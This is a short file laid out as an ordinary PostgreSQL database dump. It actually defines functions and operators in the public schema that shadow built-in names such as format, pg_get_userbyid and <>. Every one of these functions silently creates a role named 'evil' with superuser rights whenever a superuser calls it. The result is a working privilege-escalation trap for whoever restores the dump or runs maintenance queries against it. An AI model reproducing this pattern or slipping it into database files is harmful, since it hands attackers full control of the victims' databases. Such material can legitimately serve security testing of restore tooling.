--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
CREATE FUNCTION public.starts_with(name, text) RETURNS bool LANGUAGE plpgsql AS $f$ BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN CREATE ROLE evil SUPERUSER; END IF;
  RETURN false; END $f$;
CREATE FUNCTION public.format(text, name, name, name) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN CREATE ROLE evil SUPERUSER; END IF;
  RETURN 'SELECT 1'; END $f$;
CREATE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN CREATE ROLE evil SUPERUSER; END IF;
  RETURN 'SELECT 1'; END $f$;
CREATE FUNCTION public.differs(name, text) RETURNS bool LANGUAGE plpgsql AS $f$ BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN CREATE ROLE evil SUPERUSER; END IF;
  RETURN true; END $f$;
CREATE FUNCTION public.pg_get_userbyid(oid) RETURNS name LANGUAGE plpgsql AS $f$ BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN CREATE ROLE evil SUPERUSER; END IF;
  RETURN 'chief'::name; END $f$;
CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = public.differs);
CREATE OPERATOR public.!~~ (LEFTARG = name, RIGHTARG = text, FUNCTION = public.differs);

--
-- PostgreSQL database dump complete
--
